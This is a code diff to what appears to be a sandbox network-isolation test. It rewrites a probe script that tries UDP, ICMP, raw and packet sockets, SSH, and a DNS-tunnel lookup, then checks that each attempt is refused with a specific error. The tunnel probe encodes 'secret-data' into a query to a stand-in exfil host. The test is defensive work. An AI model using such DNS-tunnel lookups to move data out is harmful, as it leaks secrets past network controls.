@@ -80,35 +80,55 @@ def denied(s):
           (r.stdout, r.stderr))
 
 
-def other_protocols(s):
-    script = """
-import socket, time
-def attempt(name, f):
-    began = time.time()
+OTHER = """
+import encodings.idna, errno, socket, time
+
+def attempt(name, f, seconds=2):
+    began = time.monotonic()
     try:
-        f(); print(name, 'went')
-    except Exception as e:
-        print(name, 'refused' if time.time() - began < 5 else 'HUNG', type(e).__name__)
-def udp():
-    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(4); s.connect(('198.18.0.5', 443)); s.send(b'x'); s.recv(1)
-def raw():
-    socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
-def ping():
-    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP); s.settimeout(4); s.connect(('198.18.0.5', 0)); s.send(b'x'); s.recv(1)
-def packet():
-    socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 3)
-def tunnel():
-    socket.getaddrinfo('c2VjcmV0LWRhdGE.exfil.example.test', 443)
-def ssh():
-    s = socket.create_connection(('198.18.0.1', 22), 15); s.settimeout(15); s.send(b'SSH-2.0-x\\r\\n'); d = s.recv(10)
-    if not d: raise OSError('closed')
-for n, f in (('udp', udp), ('raw', raw), ('ping', ping), ('packet', packet), ('tunnel', tunnel), ('ssh', ssh)):
-    attempt(n, f)
+        f()
+        what = 'went'
+    except TimeoutError:
+        what = 'HUNG'
+    except socket.gaierror as e:
+        what = 'refused ' + {socket.EAI_NONAME: 'EAI_NONAME'}.get(e.errno, str(e))
+    except OSError as e:
+        what = 'refused ' + errno.errorcode.get(e.errno, str(e))
+    print(name, what if time.monotonic() - began < seconds else 'LATE ' + what)
+
+def datagram(family, protocol, address):
+    s = socket.socket(family, socket.SOCK_DGRAM, protocol)
+    s.settimeout(10)
+    s.connect(address)
+    s.send(b'x')
+    s.recv(1)
+
+def closed():
+    s = socket.create_connection(('198.18.0.1', 22), 10)
+    s.send(b'SSH-2.0-x\\r\\n')
+    if not s.recv(10):
+        raise OSError(errno.ECONNRESET, 'closed')
+
+attempt('udp', lambda: datagram(socket.AF_INET, 0, ('198.18.0.5', 443)))
+attempt('udp6', lambda: datagram(socket.AF_INET6, 0, ('2001:db8::5', 443)))
+attempt('ping', lambda: datagram(socket.AF_INET, socket.IPPROTO_ICMP, ('198.18.0.5', 0)))
+attempt('raw', lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP))
+attempt('packet', lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 3))
+attempt('tunnel', lambda: socket.getaddrinfo('c2VjcmV0LWRhdGE.exfil.example.test', 443), 4)
+attempt('ssh', closed, 4)
 """
-    (s.workspace / "try.py").write_text(script)
+
+
+def other_protocols(s):
+    """What is no TCP to a host that a rule names: an error that a client can act upon, at once. A packet that is
+    dropped in silence would be a wait, and no client falls back from one."""
+    (s.workspace / "try.py").write_text(OTHER)
     r = s.run(["python3", "try.py"], "--quiet", env={"API_TOKEN": w.info["tokens"]["api"]})
-    for name in ("udp", "raw", "ping", "packet", "tunnel", "ssh"):
-        check(f"{name}: refused at once", f"{name} refused" in r.stdout, (r.stdout, r.stderr))
+    said = {name: what for name, _, what in (line.partition(" ") for line in r.stdout.splitlines())}
+    refusals = {"udp": ("EPERM", "EHOSTUNREACH"), "udp6": ("EPERM", "EACCES"), "ping": ("EACCES",), "raw": ("EPERM",),
+                "packet": ("EPERM",), "tunnel": ("EAI_NONAME",), "ssh": ("ECONNRESET",)}
+    for name, errors in refusals.items():
+        check(f"{name}: refused at once, as {' or '.join(errors)}", said.get(name) in [f"refused {e}" for e in errors], (r.stdout, r.stderr))
 
 
 def reflection(s):
